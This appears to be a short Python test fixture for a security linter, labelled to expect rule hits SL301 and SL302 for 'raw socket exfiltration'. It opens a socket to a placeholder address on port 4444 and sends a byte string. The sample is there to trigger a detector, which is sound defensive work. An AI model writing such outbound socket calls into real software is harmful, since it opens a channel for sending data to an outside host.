# expect: SL301 SL302 — raw socket exfiltration
import socket

s = socket.create_connection(("203.0.113.7", 4444))
s.sendall(b"hello")
